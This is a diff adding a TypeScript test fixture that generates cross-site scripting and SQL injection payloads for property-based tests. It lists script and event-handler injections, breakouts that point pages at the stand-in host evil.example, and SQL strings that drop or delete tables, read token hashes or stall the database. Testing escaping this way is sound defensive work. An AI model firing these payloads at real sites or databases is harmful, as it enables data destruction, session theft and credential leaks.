@@ -1,0 +1,108 @@
+import fc from "fast-check";
+
+const scripts = [
+  "<script>pwn()</script>",
+  "</script><script>pwn()</script>",
+  "</textarea><script>pwn()</script>",
+  "</title><script>pwn()</script>",
+  "</style><script>pwn()</script>",
+  "--><script>pwn()</script>",
+  "]]><script>pwn()</script>",
+  "<img src=x onerror=pwn()>",
+  "<svg onload=pwn()>",
+  "<svg><animate onbegin=pwn() attributeName=x>",
+  "<iframe srcdoc='<script>pwn()</script>'>",
+  "<details open ontoggle=pwn()>",
+  "<input autofocus onfocus=pwn()>",
+  "<body onload=pwn()>",
+  "<a href=javascript:pwn()>x</a>",
+  "<math><mtext><img src=x onerror=pwn()></mtext></math>",
+  "<base href=//evil.example/>",
+  "<meta http-equiv=refresh content=0;url=//evil.example>",
+  "<link rel=stylesheet href=//evil.example>",
+  "<form action=//evil.example><button>x",
+  "<style>@import'//evil.example'</style>",
+  "<noscript><p title='</noscript><img src=x onerror=pwn()>'>",
+  "<template><script>pwn()</script></template>",
+  "<!--<script>pwn()",
+  "<x-pwn>",
+];
+/** What may stand around a script to break out of where it lands. */
+const frames = [
+  (script: string) => script,
+  (script: string) => `">${script}`,
+  (script: string) => `'>${script}`,
+  (script: string) => `\`>${script}`,
+  (script: string) => `\\">${script}`,
+  (script: string) => `{{${script}}}`,
+  (script: string) => `\${${script}}`,
+  (script: string) => `\u2028"};${script}//`,
+];
+
+/** 200 texts that are markup where a page forgets to escape them. */
+export const scriptPayloads = scripts.flatMap((script) => frames.map((frame) => frame(script)));
+
+const sql = [
+  "' or '1'='1",
+  "'; drop table orders; --",
+  "' union select hash from tokens --",
+  "1; select 1",
+  "'||(select name from customers limit 1)||'",
+  "\\'; delete from products; --",
+  "') or 1=1 --",
+  "' and randomblob(1000000000) --",
+  "'; select pg_sleep(9); --",
+  "$$;drop table orders;$$",
+  "%",
+  "_",
+  "%%",
+  "____",
+  "%'",
+  "a%b",
+  "[a-z]%",
+  "\\%",
+  "\\",
+  "\\\\",
+  "^",
+  "*",
+  "?",
+  "gr_pes",
+  "'",
+  "''",
+  '"',
+  "`",
+  ";",
+  "--",
+  "/*",
+  "*/",
+  "#",
+  "$1",
+  ":1",
+  "@p1",
+  "?1",
+  "{}",
+  "(",
+  ")",
+  "null",
+  "true",
+  "0x31",
+  "1e309",
+  "NaN",
+  "-1",
+  "\u02bc or 1=1",
+  "\uff07 or 1=1",
+  "x' or 'x'='x",
+  "char(39)||1=1",
+];
+const part = fc.constantFrom(...sql);
+/** As long as a message may be, at most. */
+const combination = fc
+  .tuple(part, part, part)
+  .map((parts) => parts.join(" "))
+  .filter((text) => text.length <= 100);
+
+/** 500 texts that a query would act on if it were pasted together; the rest combine the first. */
+export const sqlPayloads = [
+  ...sql,
+  ...fc.sample(combination, { seed: 1, numRuns: 500 - sql.length }),
+];
